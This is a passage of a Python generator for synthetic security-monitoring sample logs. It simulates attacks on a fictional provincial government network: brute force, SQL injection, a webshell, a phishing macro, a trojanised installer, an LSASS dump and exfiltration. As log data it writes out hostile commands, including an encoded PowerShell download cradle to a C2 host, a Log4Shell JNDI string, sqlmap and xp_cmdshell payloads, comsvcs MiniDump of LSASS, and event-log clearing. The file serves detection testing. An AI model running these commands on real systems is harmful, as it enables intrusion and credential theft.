    users = ["canbo.snv", "ketoan.stc", "vanthu.hoaphong", "yte.syt", "motcua.binhlac", "admin", "vpnuser"]
    for i in range(42):
        when, pid, port = (
            start + timedelta(seconds=i * 20),
            rng.randint(1000, 9000),
            rng.randint(40000, 65000),
        )
        user = users[i % len(users)]
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"pam_unix(openvpn:auth): authentication failure; logname= uid=0 "
            f"euid=0 tty= ruser= rhost=  user={user}",
            pid,
        )
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"{VPN_SPRAY}:{port} TLS Auth Error: Auth Username/Password verification failed for peer",
            pid,
        )


def attack_rdp_commune(s: Samples) -> None:
    """RDP guessing on a commune's one-stop-office PC, then a new admin account and a cleared log."""
    rng = s.rng
    host = WORKSTATIONS[8]
    start = s.at(2 + 10 / 60, 1)
    for i in range(64):
        user = rng.choice(["administrator", "admin", "motcua", "user", "canbo", "ketoan"])
        sub = "0xc000006a" if user in ("administrator", "motcua", "canbo") else "0xc0000064"
        s.logon(start + timedelta(seconds=i * 9), host, user, 10, RDP_BRUTE, failed=True, sub_status=sub)
    when = start + timedelta(minutes=10)
    s.logon(when, host, "administrator", 10, RDP_BRUTE)
    admin = "PC-MC01\\administrator"
    cmd = SYS32 + "cmd.exe"
    net = SYS32 + "net.exe"
    when += timedelta(minutes=2)
    s.sysmon_process(
        when,
        host,
        admin,
        net,
        "net user hotro.it Hotro@2026 /add",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "net.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SECURITY,
        4720,
        {
            "TargetUserName": "hotro.it",
            "TargetDomainName": "PC-MC01",
            "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
            "SamAccountName": "hotro.it",
            "DisplayName": "%%1793",
            "UserAccountControl": "%%2080 %%2082 %%2084",
        },
    )
    when += timedelta(seconds=25)
    s.sysmon_process(
        when,
        host,
        admin,
        net,
        "net localgroup administrators hotro.it /add",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "net.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SECURITY,
        4732,
        {
            "MemberName": "-",
            "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
            "PrivilegeList": "-",
        },
    )
    when += timedelta(minutes=3)
    s.sysmon_process(
        when,
        host,
        admin,
        SYS32 + "wevtutil.exe",
        "wevtutil.exe cl Security",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "wevtutil.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        EVENTLOG,
        1102,
        {
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
        },
        user_data="LogFileCleared",
    )


def attack_portal_sqli(s: Samples) -> None:
    """sqlmap against the dossier look-up of the public-service portal, 14:02-14:20 local."""
    rng = s.rng
    agent = "sqlmap/1.8.11#stable (https://sqlmap.org)"
    base = "/dichvucong/tracuu/hoso?mahoso=000.00.12.H01-261127-0042"
    payloads = [
        ("%27%20AND%209571%3D9571%20AND%20%27xYzq%27%3D%27xYzq", 200),
        ("%27%20AND%209571%3D9572%20AND%20%27xYzq%27%3D%27xYzq", 200),
        (
            "%27%20AND%20EXTRACTVALUE%281234%2CCONCAT%280x5c%2C0x7176627171%2C%28SELECT%20%28ELT%281234%3D1234%2C1"
            "%29%29%29%2C0x71766b7a71%29%29--%20kQpW",
            500,
        ),
        ("%27%20AND%20%28SELECT%206311%20FROM%20%28SELECT%28SLEEP%285%29%29%29abcd%29--%20Xlmo", 200),
        (
            "%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176627171%2C0x4f6b%2C0x71766b7a71%29--%20-",
            200,
        ),
        (
            "%27%20UNION%20ALL%20SELECT%20NULL%2Ctable_name%2CNULL%20FROM%20information_schema.tables--%20-",
            200,
        ),
        ("%27", 500),
    ]
    start = s.at(14 + 2 / 60, 1)
    s.access_line(
        "dvc-web01",
        start,
        SQLMAP,
        "GET",
        base + "&vUsq%3D7921%20AND%201%3D1%20UNION%20ALL%20SELECT%201"
        "%2CNULL%2C%27%3Cscript%3Ealert%28%22XSS%22%29%3C%2Fscript%3E%27%2Ctable_name%20FROM%20"
        "information_schema.tables%20WHERE%202%3E1--%2F%2A%2A%2F%3B%20EXEC%20xp_cmdshell%28%27cat%20"
        "..%2F..%2F..%2Fetc%2Fpasswd%27%29%23",
        200,
        4880,
        "-",
        agent,
    )
    for i in range(84):
        payload, status = payloads[i % len(payloads)]
        s.access_line(
            "dvc-web01",
            start + timedelta(seconds=10 + i * 12 + rng.uniform(0, 4)),
            SQLMAP,
            "GET",
            base + payload,
            status,
            rng.randint(300, 6000) if status == 200 else 1432,
            "-",
            agent,
        )


def attack_portal_webshell(s: Samples) -> None:
    """A JSP webshell uploaded as a dossier attachment, then used; the web user then tries sudo."""
    agent = AGENTS[4]
    when = s.at(14 + 41 / 60, 1)
    s.access_line(
        "dvc-web01",
        when,
        WEBSHELL,
        "POST",
        "/dichvucong/dvctructuyen/nophoso/dinhkem",
        200,
        211,
        "https://dichvucong.ankhanh.gov.vn/dichvucong/dvctructuyen/nophoso?ma=1.001234",
        agent,
    )
    shell = "/dichvucong/upload/hoso/2026/11/tk_0912.jsp"
    for i, command in enumerate(
        [
            "",
            "?cmd=id",
            "?cmd=uname%20-a",
            "?cmd=cat%20/etc/passwd",
            "?cmd=sudo%20-l",
            "?cmd=sudo%20/bin/bash%20-c%20id",
            "?cmd=ls%20-la%20/opt/tomcat/conf",
        ]
    ):
        s.access_line(
            "dvc-web01",
            when + timedelta(seconds=40 + i * 30),
            WEBSHELL,
            "GET",
            shell + command,
            200,
            312 + 40 * i,
            "-",
            agent,
        )
    s.syslog_line(
        when + timedelta(seconds=160),
        "dvc-web01",
        "sudo",
        "  tomcat : user NOT in sudoers ; "
        "TTY=unknown ; PWD=/opt/tomcat/webapps ; USER=root ; COMMAND=/usr/bin/id",
    )
    s.syslog_line(
        when + timedelta(seconds=190),
        "dvc-web01",
        "sudo",
        "  tomcat : user NOT in sudoers ; "
        "TTY=unknown ; PWD=/opt/tomcat/webapps ; USER=root ; COMMAND=/bin/bash -c id",
    )


def attack_office_macro(s: Samples) -> None:
    """A phishing document opened at the Department of Home Affairs runs an encoded PowerShell cradle."""
    host = WORKSTATIONS[2]
    user = host.users[0]
    account = f"{host.domain}\\{user}"
    doc = f"C:\\Users\\{user}\\Downloads\\CV_de_nghi_bo_sung_ho_so_thi_dua.doc"
    when = s.at(9 + 12 / 60, 1)
    outlook = OFFICE + "OUTLOOK.EXE"
    s.sysmon_file(when, host, account, outlook, doc)
    word = OFFICE + "WINWORD.EXE"
    word_cmd = f'"{word}" /n "{doc}" /o ""'
    s.sysmon_process(
        when + timedelta(seconds=30), host, account, word, word_cmd, EXPLORER, EXPLORER, "WinWord.exe"
    )
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2}/tailieu/update.ps1')"
    encoded = base64.b64encode(script.encode("utf-16le")).decode("ascii")
    ps_when = when + timedelta(seconds=48)
    s.sysmon_process(
        ps_when,
        host,
        account,
        POWERSHELL_EXE,
        f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}",
        word,
        word_cmd,
        "PowerShell.EXE",
    )
    s.ps_script(ps_when + timedelta(seconds=1), host, script)
    s.sysmon_network(ps_when + timedelta(seconds=2), host, account, POWERSHELL_EXE, C2, 80)
    s.sysmon_file(
        ps_when + timedelta(seconds=4),
        host,
        account,
        POWERSHELL_EXE,
        f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Office\\officeupd.exe",
    )


def attack_signsight(s: Samples) -> None:
    """A trojanised signing-client installer (SignSight-like) at the Department of Finance."""
    host = WORKSTATIONS[4]
    user = host.users[0]
    account = f"{host.domain}\\{user}"
    setup = f"C:\\Users\\{user}\\Downloads\\gca01-client-v2-x64-8.3.exe"
    when = s.at(10 + 35 / 60, 1)
    s.sysmon_file(when, host, account, CHROME, setup)
    s.sysmon_process(
        when + timedelta(seconds=15),
        host,
        account,
        setup,
        f'"{setup}"',
        EXPLORER,
        EXPLORER,
        "gca01-client.exe",
        "High",
    )
    backdoor = "C:\\Program Files\\Common Files\\eToken.exe"
    s.sysmon_file(
        when + timedelta(seconds=21),
        host,
        account,
        setup,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
    )
    s.sysmon_file(when + timedelta(seconds=22), host, account, setup, backdoor)
    s.sysmon_process(
        when + timedelta(seconds=25),
        host,
        account,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
        '"C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe"',
        setup,
        f'"{setup}"',
    )
    s.sysmon_process(
        when + timedelta(seconds=26),
        host,
        account,
        backdoor,
        f'"{backdoor}"',
        setup,
        f'"{setup}"',
        "eToken.exe",
        "High",
    )
    s.sysmon_process(
        when + timedelta(seconds=27),
        host,
        account,
        SYS32 + "cmd.exe",
        'cmd.exe /c schtasks /create /tn "SafeNet eToken Update" /tr "\\"' + backdoor + '\\"" /sc onlogon '
        "/rl highest /f",
        setup,
        f'"{setup}"',
        "Cmd.Exe",
        "High",
    )
    s.sysmon_network(when + timedelta(seconds=40), host, account, backdoor, C2, 443)


def attack_lsass_dump(s: Samples) -> None:
    """LSASS dumped with comsvcs.dll on the document-management server, 23:31 local."""
    host = QLVB
    admin = "ANKHANH\\qt.qlvb"
    when = s.at(23 + 31 / 60, 1)
    rundll = SYS32 + "rundll32.exe"
    s.sysmon_process(
        when,
        host,
        admin,
        rundll,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 732 "
        "C:\\Windows\\Temp\\WER3a1f.tmp.dmp full",
        SYS32 + "cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe"',
        "RUNDLL32.EXE",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SYSMON,
        10,
        {
            "RuleName": "-",
            "SourceProcessGUID": _guid(s.rng),
            "SourceImage": rundll,
            "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6a5b|"
            "C:\\Windows\\System32\\comsvcs.dll+4a8d",
            "SourceUser": admin,
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
    )
    s.sysmon_file(when + timedelta(seconds=3), host, admin, rundll, "C:\\Windows\\Temp\\WER3a1f.tmp.dmp")


def attack_egov_probes(s: Samples) -> None:
    """A Log4Shell probe and a template scanner against the e-government portal."""
    when = s.at(3 + 22 / 60, 1)
    jndi = "${jndi:ldap://" + C2 + ":1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yL3g=}"
    s.access_line("cttdt-web01", when, C2, "GET", "/", 200, 31877, "-", jndi)
    s.access_line(
        "cttdt-web01",
        when + timedelta(seconds=1),
        C2,
        "GET",
        "/tintuc/chitiet?id=%24%7Bjndi%3Aldap%3A%2F%2F" + C2 + "%3A1389%2Fa%7D",
        200,
        14501,
        jndi,
        AGENTS[0],
    )
    agent = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    probes = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/server-status",
        "/actuator/env",
        "/backup.zip",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/cgi-bin/luci",
        "/solr/admin/info/system",
    ]
    for i, uri in enumerate(probes * 3):
        s.access_line(
            "cttdt-web01",
            when + timedelta(minutes=20, seconds=i * 2),
            SCANNER,
            "GET",
            uri,
            404,
            162,
            "-",
            agent,
        )


def attack_cross_agency_sweep(s: Samples) -> None:
    """One address guessing SSH and RDP passwords at five agencies in twenty minutes, 03:40 local: a
    handful of tries per host, too few for any one agency to notice (layer 2's cross-agency correlation)."""
    rng = s.rng
    start = s.at(3 + 40 / 60, 1)
    targets: list[str | Host] = ["dvc-web01", "lgsp-gw01", WORKSTATIONS[1], WORKSTATIONS[3], WORKSTATIONS[7]]
    for n, target in enumerate(targets):
        for i in range(6):
            when = start + timedelta(minutes=4 * n, seconds=i * 11 + rng.uniform(0, 3))
            user = rng.choice(["administrator", "admin", "root", "quantri", "ketoan"])
            if isinstance(target, Host):
                s.logon(when, target, user, 10, SWEEP, failed=True)
            else:
                port = rng.randint(30000, 65000)
                s.syslog_line(when, target, "sshd", f"Failed password for {user} from {SWEEP} port {port} ssh2",
                              rng.randint(20000, 30000))


ACTIVITY: list[Callable[[Samples], None]] = [
    legitimate_vgca_install,
    server_day,
    portal_day,
    egov_portal_day,
    linux_day,
    attack_ssh_bruteforce,
    attack_vpn_spray,
    attack_rdp_commune,
    attack_portal_sqli,
    attack_portal_webshell,
    attack_office_macro,
    attack_signsight,
    attack_lsass_dump,
    attack_egov_probes,
    attack_cross_agency_sweep,  # last: the activities before it draw the same random numbers as before
]


def build() -> Samples:
    """All events of the demo day, deterministic for the fixed seed."""
    samples = Samples()
    for host in WORKSTATIONS:
        workstation_day(samples, host)
    for activity in ACTIVITY:
        activity(samples)
    return samples


# --- network sensors (Zeek at four agencies' uplinks, NetFlow from the data centre's edge router) --------
#
# Each agency's uplink has a Zeek sensor writing JSON conn and dns logs (Zeek's JSON writer: dotted id.*
# names, epoch seconds in ts, no _path), and the data centre's edge router exports NetFlow, written as the
# JSON records `socpipe collect netflow` sends to raw.flow. Each sensor's files sit in a folder named after
# it (samples/network/<sensor>/); socpipe/demo.py names the sensor as the host of the folder's records, since
# neither Zeek nor a flow record names the place it was seen. The network day draws from its own random
# generator, so the other sample files keep their bytes.

NETWORK = SAMPLES / "network"
NETWORK_SEED = SEED + 13
ZEEK_SENSORS = {"snv": "ids01.snv", "stc": "ids01.stc", "syt": "ids01.syt", "binhlac": "ids01.binhlac"}
EDGE_ROUTER, EDGE_EXPORTER = "rt-edge01.dc", "10.10.0.1"
RESOLVER = "10.10.50.53"  # the province's DNS resolver in the data centre
HIS_DB = "172.16.13.50"  # the Department of Health's hospital information system database (level 3)
DVC_WEB = {"dvc-web01": "10.10.10.11", "dvc-web02": "10.10.10.12"}
PORT_SCANNER = "203.0.113.66"
SWEEPER = "198.51.100.77"
EXFIL = "203.0.113.200"
NATIONAL_BACKUP = "192.0.2.80"  # an off-site backup service of the health sector, outside the province
BENIGN_SITES = {
    "vnexpress.net": "192.0.2.11", "dichvucong.gov.vn": "192.0.2.12", "login.microsoftonline.com": "192.0.2.13",
    "thuvienphapluat.vn": "192.0.2.14", "chinhphu.vn": "192.0.2.15", "www.google.com": "192.0.2.16",
    "zalo.me": "192.0.2.17", "msftconnecttest.com": "192.0.2.18", "vietcombank.com.vn": "192.0.2.19",
    "settings-win.data.microsoft.com": "192.0.2.20", "qlvb.ankhanh.gov.vn": "10.10.20.15",
}
CONSONANTS = "bcdfghjklmnpqrstvwxz"


class Network:
    """Zeek records per sensor and log, and flow records, with their times; written in time order."""

    def __init__(self) -> None:
        self.rng = random.Random(NETWORK_SEED)
        self.zeek: dict[tuple[str, str], list[tuple[float, int, dict[str, Any]]]] = {}
        self.flows: list[tuple[float, int, dict[str, str]]] = []
        self._serial = 0

    def _next(self) -> int:
        self._serial += 1
        return self._serial

    def uid(self) -> str:
        return "C" + "".join(self.rng.choice(string.ascii_letters + string.digits) for _ in range(17))

    def conn(self, sensor: str, when: datetime, orig: str, orig_port: int, resp: str, resp_port: int, *,
             state: str = "SF", proto: str = "tcp", service: str | None = None, duration: float = 0.0,
             orig_bytes: int = 0, resp_bytes: int = 0, orig_pkts: int = 0, resp_pkts: int = 0,
             history: str = "ShADadFf") -> None:
        """One Zeek conn record; IP bytes are the payload plus 40 bytes of headers a packet."""
        record: dict[str, Any] = {
            "ts": round(when.timestamp(), 6), "uid": self.uid(), "id.orig_h": orig, "id.orig_p": orig_port,
            "id.resp_h": resp, "id.resp_p": resp_port, "proto": proto}
        if service:
            record["service"] = service
        if state not in ("S0", "REJ"):
            record["duration"] = round(duration, 6)
        record |= {"orig_bytes": orig_bytes, "resp_bytes": resp_bytes, "conn_state": state,
                   "local_orig": orig.startswith(("10.", "172.16.")), "local_resp": resp.startswith(("10.", "172.16.")),
                   "missed_bytes": 0, "history": history, "orig_pkts": orig_pkts,
                   "orig_ip_bytes": orig_bytes + 40 * orig_pkts, "resp_pkts": resp_pkts,
                   "resp_ip_bytes": resp_bytes + 40 * resp_pkts}
        self.zeek.setdefault((sensor, "conn"), []).append((when.timestamp(), self._next(), record))

    def dns(self, sensor: str, when: datetime, client: str, query: str, answer: str | None) -> None:
        """One Zeek dns record of an A query to the province's resolver."""
        record: dict[str, Any] = {
            "ts": round(when.timestamp(), 6), "uid": self.uid(), "id.orig_h": client,
            "id.orig_p": self.rng.randint(49152, 65535), "id.resp_h": RESOLVER, "id.resp_p": 53, "proto": "udp",
            "trans_id": self.rng.randint(1, 65535), "rtt": round(self.rng.uniform(0.002, 0.09), 6), "query": query,
            "qclass": 1, "qclass_name": "C_INTERNET", "qtype": 1, "qtype_name": "A",
            "rcode": 0 if answer else 3, "rcode_name": "NOERROR" if answer else "NXDOMAIN",
            "AA": False, "TC": False, "RD": True, "RA": True, "Z": 0, "rejected": False}
        if answer:
            record |= {"answers": [answer], "TTLs": [300.0]}
        self.zeek.setdefault((sensor, "dns"), []).append((when.timestamp(), self._next(), record))

    def flow(self, when: datetime, seconds: float, src: str, src_port: int, dst: str, dst_port: int,
             packets: int, size: int, flags: int, proto: int = 6) -> None:
        """One NetFlow v9 record of the edge router, as ingest/netflow.py's _records gives it (strings)."""
        start = when.astimezone(UTC)
        end = start + timedelta(seconds=seconds)
        iso = [t.isoformat(timespec="milliseconds") for t in (start, end)]
        transport = {6: "tcp", 17: "udp"}[proto]
        fields: dict[str, object] = {
            "exporter": EDGE_EXPORTER, "observation_domain": 0, "netflow_version": 9, "start": iso[0],
            "end": iso[1], "src_ip": src, "dst_ip": dst, "src_port": src_port, "dst_port": dst_port,
            "protocol": proto, "bytes": size, "packets": packets, "tcp_flags": flags if proto == 6 else 0,
            "input_interface": 1 if src.startswith("10.") else 2, "output_interface": 2 if src.startswith("10.") else 1,
            "source.ip": src, "source.port": src_port, "destination.ip": dst, "destination.port": dst_port,
            "network.transport": transport, "network.iana_number": proto, "network.bytes": size,
            "network.packets": packets, "event.start": iso[0], "event.end": iso[1]}
        self.flows.append((start.timestamp(), self._next(), {k: str(v) for k, v in fields.items()}))

    def write(self, folder: Path) -> dict[str, int]:
        counts: dict[str, int] = {}
        for (sensor, log), records in sorted(self.zeek.items()):
            path = folder / sensor / f"{log}.log"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("".join(json.dumps(r, separators=(",", ":")) + "\n" for _, _, r in sorted(
                records, key=lambda item: item[:2])), encoding="utf-8", newline="\n")
            counts[f"network/{sensor}/{log}.log"] = len(records)
        path = folder / EDGE_ROUTER / "flows.jsonl"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(json.dumps(r, separators=(",", ":")) + "\n" for _, _, r in sorted(
            self.flows, key=lambda item: item[:2])), encoding="utf-8", newline="\n")
        counts[f"network/{EDGE_ROUTER}/flows.jsonl"] = len(self.flows)
        return counts


def _agency_hosts() -> dict[str, list[str]]:
    """The workstation addresses behind each Zeek sensor, plus the health department's database server."""
    hosts = {agency: [h.ip for h in WORKSTATIONS if f".{agency}." in h.fqdn] for agency in ZEEK_SENSORS}
    hosts["syt"].append(HIS_DB)
    return hosts


def network_office_day(n: Network, s: Samples) -> None:
    """Ordinary traffic behind each sensor: look-ups and HTTPS to the sites staff use, the document system
    in the data centre, a nightly off-site backup, and the Internet's background probes."""
    rng = n.rng
    for agency, addresses in _agency_hosts().items():
        sensor = ZEEK_SENSORS[agency]
        for ip in addresses:
            for _ in range(rng.randint(25, 40)):
                when = s.office_time()
                name = rng.choice(sorted(BENIGN_SITES))
                n.dns(sensor, when, ip, name, BENIGN_SITES[name])
                pkts = rng.randint(8, 40)
                n.conn(sensor, when + timedelta(milliseconds=rng.randint(20, 200)), ip, rng.randint(49152, 65535),
                       BENIGN_SITES[name], 443, service="ssl", duration=rng.uniform(0.3, 40),
                       orig_bytes=rng.randint(600, 9000), resp_bytes=rng.randint(4000, 900000), orig_pkts=pkts,
                       resp_pkts=pkts + rng.randint(0, 30))
        for _ in range(6):  # the Internet's background noise: a lone probe now and then, refused
            n.conn(sensor, s.at(0, 24 * 60), f"203.0.113.{rng.randint(1, 40)}", rng.randint(1024, 65535),
                   rng.choice(addresses), rng.choice([23, 445, 3389, 8080]), state="REJ", orig_pkts=1, resp_pkts=1,
                   history="Sr")
    # The hospital database's nightly backup to the sector's off-site service: 400 MB, under the alert's sum.
    start = s.at(1, 5)
    for i in range(4):
        n.conn(ZEEK_SENSORS["syt"], start + timedelta(minutes=3 * i), HIS_DB, rng.randint(49152, 65535),
               NATIONAL_BACKUP, 443, service="ssl", duration=170.0 + rng.uniform(0, 20), orig_bytes=100_000_000,
               resp_bytes=rng.randint(200_000, 400_000), orig_pkts=70_000, resp_pkts=35_000)


def network_data_centre_day(n: Network, s: Samples) -> None:
    """The edge router's flows: citizens on the public-service portal (the server's answers are the big
    flows, from port 443), and administrators' SSH sessions from the VPN pool."""
    rng = n.rng
    for _ in range(300):
        when = s.office_time()
        client = _client(rng)
        server, port = rng.choice(sorted(DVC_WEB.values())), rng.randint(49152, 65535)
        seconds, pkts = rng.uniform(0.5, 90), rng.randint(10, 80)
        n.flow(when, seconds, client, port, server, 443, pkts, pkts * rng.randint(60, 400), 0x1B)
        answer = rng.randint(50_000, 3_000_000)
        n.flow(when + timedelta(milliseconds=5), seconds, server, 443, client, port, answer // 1400 + 2, answer, 0x1B)
    for _ in range(12):
        when, admin = s.office_time(), f"10.10.60.{rng.randint(10, 40)}"
        n.flow(when, rng.uniform(300, 3000), admin, rng.randint(49152, 65535), rng.choice(sorted(DVC_WEB.values())),
               22, rng.randint(400, 4000), rng.randint(60_000, 900_000), 0x1B)


def network_attack_port_scan(n: Network, s: Samples) -> None:
    """An Internet address scans 150 ports of one machine of the Department of Home Affairs in two minutes,
    10:05 local: refused, except the three ports it finds open (answered, then reset by the scanner)."""
    rng, target = n.rng, WORKSTATIONS[0].ip
    start = s.at(10 + 5 / 60, 1)
    ports = rng.sample(range(1, 10000), 147) + [135, 445, 3389]
    for i, port in enumerate(ports):
        when = start + timedelta(milliseconds=800 * i + rng.randint(0, 300))
        if port in (135, 445, 3389):
            n.conn(ZEEK_SENSORS["snv"], when, PORT_SCANNER, 51234, target, port, state="RSTO", duration=0.002,
                   orig_pkts=2, resp_pkts=1, history="ShR")
        else:
            n.conn(ZEEK_SENSORS["snv"], when, PORT_SCANNER, 51234, target, port, state="REJ", orig_pkts=1,
                   resp_pkts=1, history="Sr")


def network_attack_sweep(n: Network, s: Samples) -> None:
    """One address probes RDP on every machine behind the four agencies' sensors, 02:30 local, one every 45
    seconds (its SYN sent twice, no answer through the firewalls): no agency's sensor sees more than three
    probed hosts; the province sees eleven in eight minutes."""
    rng = n.rng
    start = s.at(2.5, 1)
    targets = [(agency, ip) for agency, addresses in _agency_hosts().items() for ip in addresses]
    for i, (agency, ip) in enumerate(targets):
        when = start + timedelta(seconds=45 * i + rng.uniform(0, 5))
        n.conn(ZEEK_SENSORS[agency], when, SWEEPER, rng.randint(40000, 60000), ip, 3389, state="S0", orig_pkts=2,
               history="S")


def network_attack_ssh_flows(n: Network, s: Samples) -> None:
    """The SSH guessing against dvc-web02 (attack_ssh_bruteforce, 01:40-01:55) as the edge router saw it:
    65 short connections of two password tries each, and the server's answers."""
    rng = n.rng
    start = s.at(1 + 40 / 60, 1)
    for i in range(65):
        when = start + timedelta(seconds=i * 14 + rng.uniform(0, 3))
        port, pkts = rng.randint(30000, 65000), rng.randint(12, 20)
        seconds = rng.uniform(3, 6)
        n.flow(when, seconds, SSH_BRUTE, port, DVC_WEB["dvc-web02"], 22, pkts, pkts * 52 + 1900, 0x1B)
        n.flow(when + timedelta(milliseconds=30), seconds, DVC_WEB["dvc-web02"], 22, SSH_BRUTE, port, pkts - 2,
               pkts * 48 + 2500, 0x1B)


def network_attack_exfiltration(n: Network, s: Samples) -> None:
    """The health department's database server uploads 1.6 GB to an Internet address in 40 minutes, 23:10
    local, over sixteen HTTPS connections."""
    rng = n.rng
    start = s.at(23 + 10 / 60, 1)
    for i in range(16):
        size = 100_000_000 + rng.randint(0, 5_000_000)
        n.conn(ZEEK_SENSORS["syt"], start + timedelta(seconds=150 * i), HIS_DB, rng.randint(49152, 65535), EXFIL,
               443, service="ssl", duration=140 + rng.uniform(0, 8), orig_bytes=size,
               resp_bytes=rng.randint(300_000, 600_000), orig_pkts=size // 1400 + 1, resp_pkts=size // 2800 + 1)


def network_attack_dga(n: Network, s: Samples) -> None:
    """A machine of the Department of Finance runs through 45 generated names in four minutes, 14:20 local;
    all but one are unregistered, and it connects to the one that answers."""
    rng, host = n.rng, WORKSTATIONS[5].ip
    start = s.at(14 + 20 / 60, 1)
    for i in range(45):
        label = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(12, 16)))
        name = f"{label}.{rng.choice(['com', 'net', 'info', 'biz'])}"
        when = start + timedelta(seconds=5 * i + rng.uniform(0, 2))
        n.dns(ZEEK_SENSORS["stc"], when, host, name, C2 if i == 44 else None)
    n.conn(ZEEK_SENSORS["stc"], start + timedelta(seconds=226), host, rng.randint(49152, 65535), C2, 443,
           service="ssl", duration=2.5, orig_bytes=1800, resp_bytes=5200, orig_pkts=9, resp_pkts=8)


VPN_GATEWAY = "198.51.100.10"  # the public address of the registry's `vpn` system (role vpn)


def network_vpn_day(n: Network, s: Samples) -> None:
    """Staff working from home through the SSL VPN (TCP 443 of the gateway): 25 tunnels of tens of minutes
    during office hours, three of them after one or two mistyped passwords (short refused connections)."""
    rng = n.rng
    for i in range(25):
        when, home = s.office_time(), _client(rng)
        for retry in range({7: 1, 8: 2, 16: 1}.get(i, 0)):
            port = rng.randint(49152, 65535)
            n.flow(when + timedelta(seconds=20 * retry), 0.4, home, port, VPN_GATEWAY, 443, 11, 3100, 0x1B)
            n.flow(when + timedelta(seconds=20 * retry, milliseconds=20), 0.4, VPN_GATEWAY, 443, home, port, 9,
                   5400, 0x1B)
        when += timedelta(seconds=60)
        port, seconds = rng.randint(49152, 65535), rng.uniform(600, 3600)
        sent, received = rng.randint(2_000_000, 40_000_000), rng.randint(5_000_000, 200_000_000)
        n.flow(when, seconds, home, port, VPN_GATEWAY, 443, sent // 900, sent, 0x1B)
        n.flow(when, seconds, VPN_GATEWAY, 443, home, port, received // 1300, received, 0x1B)


def network_attack_vpn_flows(n: Network, s: Samples) -> None:
    """The VPN password spraying (attack_vpn_spray, 42 tries from 22:05 local, one every 20 s) as the edge
    router saw it: one short TLS connection to the gateway's 443 per try, and the gateway's answers."""
    rng = n.rng
    start = s.at(22 + 5 / 60)
    for i in range(42):
        when, port = start + timedelta(seconds=i * 20 + rng.uniform(0, 1)), rng.randint(40000, 65000)
        pkts = rng.randint(10, 14)
        n.flow(when, 0.5, VPN_SPRAY, port, VPN_GATEWAY, 443, pkts, pkts * 60 + 2400, 0x1B)
        n.flow(when + timedelta(milliseconds=25), 0.5, VPN_GATEWAY, 443, VPN_SPRAY, port, pkts - 1,
               pkts * 55 + 4300, 0x1B)


NETWORK_ACTIVITY: list[Callable[[Network, Samples], None]] = [
    network_office_day,
    network_data_centre_day,
    network_attack_port_scan,
    network_attack_sweep,
    network_attack_ssh_flows,
    network_attack_exfiltration,
    network_attack_dga,
    network_vpn_day,
    network_attack_vpn_flows,
]


BEACON_HOST, BEACON_NAME, BEACON_C2 = "172.16.101.12", "cdn-update.duckdns.org", "198.51.100.9"


def beacon_capture() -> Capture:
    """The commune sensor's packet capture (ids01.binhlac/beacon.pcap): PC-MC02 of the one-stop shop calls
    home every five minutes from 08:05 local, resolving a dynamic-DNS name and opening TLS to it, and ends
    with a plain HTTP check-in; the pcap reader turns it into Zeek conn, dns, ssl and http records."""
    rng = random.Random(NETWORK_SEED + 1)
    capture = Capture()
    start = DAY + timedelta(hours=8, minutes=5)
    for i in range(7):
        capture.clock = (start + timedelta(minutes=5 * i, seconds=rng.uniform(0, 3))).timestamp()
        capture.dns(BEACON_HOST, RESOLVER, rng.randint(49152, 65535), BEACON_NAME, rng.randint(1, 65535), [BEACON_C2])
        capture.tcp_session(BEACON_HOST, BEACON_C2, rng.randint(49152, 65535), 443, [client_hello(BEACON_NAME)],
                            response=bytes(rng.randrange(256) for _ in range(1200)))
    request = (f"GET /gate.php?id=PC-MC02&v=2 HTTP/1.1\r\nHost: {BEACON_NAME}\r\n"
               "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\r\n").encode()
    capture.tcp_session(BEACON_HOST, BEACON_C2, rng.randint(49152, 65535), 80, [request],
                        response=b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    return capture


def build_network() -> Network:
